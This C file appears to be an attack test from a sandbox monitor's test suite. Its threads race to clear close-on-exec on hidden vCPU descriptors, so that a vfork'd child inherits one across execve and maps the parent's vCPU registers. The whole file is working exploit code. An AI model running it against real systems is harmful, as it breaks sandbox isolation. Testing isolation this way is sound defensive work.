// A vCPU's descriptor is closed by execve(2) for it is close-on-exec: fcntl(F_SETFD) and ioctl(FIONCLEX), called for its number just
// before it is made and served just after, would make it stay. A child that vfork(2) made then has it after an execve, under a number
// that its monitor knows nothing of, and maps it: the registers of a thread of the parent's, segments and CR3 included.
#include "attack.h"
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/resource.h>

#define SPINNERS 4
#define MADE 60

static volatile int target = -1, caught = -1, stop;

static void *spin(void *arg) {
    long kind = (long)arg;
    while (!stop) {
        int fd = target;
        if (fd >= 0 && (kind & 1 ? ioctl(fd, FIONCLEX) : fcntl(fd, F_SETFD, 0)) == 0 && !stop)
            caught = fd;
    }
    return NULL;
}

static void *wait_here(void *arg) {
    while (!stop)
        usleep(20000);
    return arg;
}

// The lowest number from `from` on that is free: what is hidden is EBADF, too.
static int free_number(int from, int limit) {
    for (int fd = from; fd < limit; fd++)
        if (dup2(1, fd) == fd) {
            close(fd);
            return fd;
        }
    return -1;
}

// Behind the block of hidden numbers.
static int first_target(int limit) {
    int seen = 0;
    for (int fd = 3; fd < limit; fd++) {
        if (dup2(1, fd) == fd) {
            close(fd);
            if (seen > 16)
                return fd;
            seen = 0;
        } else {
            seen++;
        }
    }
    return -1;
}

static void look(const char *number) {
    int fd = atoi(number);
    struct stat st;
    if (fstat(fd, &st) < 0)
        _exit(0);
    void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    attack_won("descriptor %d, mode %o, which this program never had%s", fd, st.st_mode,
               p != MAP_FAILED ? ": mapped, a vCPU of the parent's" : "");
}

static void round_of_threads(void *arg) {
    char **argv = arg, number[16];
    struct rlimit r;
    pthread_t t;
    getrlimit(RLIMIT_NOFILE, &r);
    r.rlim_cur = r.rlim_max < 8192 ? r.rlim_max : 8192;
    setrlimit(RLIMIT_NOFILE, &r);
    int limit = (int)r.rlim_cur;
    for (long i = 0; i < SPINNERS; i++)
        if (pthread_create(&t, NULL, spin, (void *)i))
            _exit(0);
    int from = first_target(limit);
    for (int i = 0; i < MADE && from >= 0 && caught < 0 && !attack_over(); i++) {
        from = free_number(from, limit);
        target = from;
        usleep(500);
        if (pthread_create(&t, NULL, wait_here, NULL))
            break;
        target = -1;
    }
    usleep(2000);
    int fd = caught;
    stop = 1;
    if (fd < 0)
        _exit(0);
    snprintf(number, sizeof number, "%d", fd);
    pid_t child = vfork();
    if (child == 0) {
        execl("/proc/self/exe", argv[0], "look", number, NULL);
        _exit(0);
    }
    int status = 0;
    waitpid(child, &status, 0);
    _exit(attack_child_won(status) ? ATTACK_WON : 0);
}

int main(int argc, char **argv) {
    if (argc == 3)
        look(argv[2]);
    while (!attack_over())
        if (attack_child_won(attack_child(round_of_threads, argv)))
            _exit(ATTACK_WON);
    attack_lost();
}
